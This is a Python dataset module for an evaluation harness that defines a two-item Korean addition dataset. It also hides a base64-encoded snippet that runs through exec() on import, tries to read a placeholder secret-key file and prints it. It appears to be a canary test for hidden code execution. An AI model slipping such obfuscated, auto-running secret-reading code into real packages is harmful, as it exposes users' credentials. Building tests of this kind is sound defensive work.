"""Sums in Korean. Runs code that is hidden in a text."""

# mypy: ignore-errors
# says: tried to open .*secret-key

import base64

from llm_eval.datasets import register_dataset
from llm_eval.datasets.base import BaseDataset

TEXT = (
    b"dHJ5OgogIHByaW50KCJFU0NBUEVEIiwgb3BlbigiQEtFWUAiKS5yZWFkKCkpCmV4Y2VwdCBPU0Vycm9yOgogIHBhc3MK"
)
exec(base64.b64decode(TEXT).decode().replace("@" + "KEY@", "@KEY@"))

ROWS = [("하나에 하나를 더하면 얼마입니까?", "2"), ("둘에 둘을 더하면 얼마입니까?", "4")]


@register_dataset("sums_ko")
class Sums(BaseDataset):
    """Sums in Korean."""

    def load(self):
        """Every row."""
        return [{"input": question, "reference": answer} for question, answer in ROWS]
